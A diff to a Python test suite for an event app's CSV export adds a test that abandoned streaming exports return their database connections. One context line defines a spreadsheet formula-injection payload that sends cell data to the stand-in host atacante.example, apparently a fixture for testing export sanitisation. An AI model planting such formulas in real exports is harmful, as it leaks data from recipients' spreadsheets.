@@ -16,6 +16,7 @@ from tests.support.database import PgServer
 from tests.support.server import LiveServer, live_server
 
 PASSWORD = "Consola123"
+POOL_MAX = 8  # tests/support/server.py: the app's pool in every test server
 HYPERLINK = '=HYPERLINK("http://atacante.example/?d="&A1;"Clique aqui")'
 _base = iter(range(secrets.randbelow(1000) * 40_000, 10**8, 30_000))
 
@@ -203,3 +204,38 @@ def test_twenty_thousand_rows_streamed(web: LiveServer, owner: httpx.Client) -> 
     assert lines == 20_001
     assert inside == 20_000 // 3
     assert chunks > 1, "the file came as one piece"
+
+
+def test_exports_dropped_halfway_give_their_connections_back(
+    web: LiveServer, owner: httpx.Client
+) -> None:
+    """Clients that leave after the first chunk, more of them than the pool has connections:
+    each one's query ends and its connection returns, so the list still answers after."""
+    slug = f"meio-{secrets.token_hex(3)}"
+    event = str(
+        web.sql(
+            "web_test_create_event",
+            {
+                "organization_id": web.demo["organizationId"],
+                "title": "Meio",
+                "slug": slug,
+                "capacity": None,
+                "closes_at": None,
+            },
+        )
+    )
+    seed(web, event, "Saída Cedo", n=5_000)
+    for _ in range(3 * POOL_MAX):
+        with owner.stream(
+            "GET",
+            f"/api/console/events/{event}/export.csv",
+            headers={"Accept-Encoding": "identity"},
+        ) as r:
+            assert r.status_code == 200
+            first = next(r.iter_raw())
+            assert first.startswith(b"\xef\xbb\xbf")
+        # leaving the block closes the connection with most of the file unread
+    r = owner.get(f"/api/console/events/{event}/guests?limit=1")
+    assert r.status_code == 200 and r.json()["total"] == 5_000
+    r = owner.get(f"/api/console/events/{event}/export.csv")
+    assert r.status_code == 200 and r.content.count(b"\r\n") == 5_001
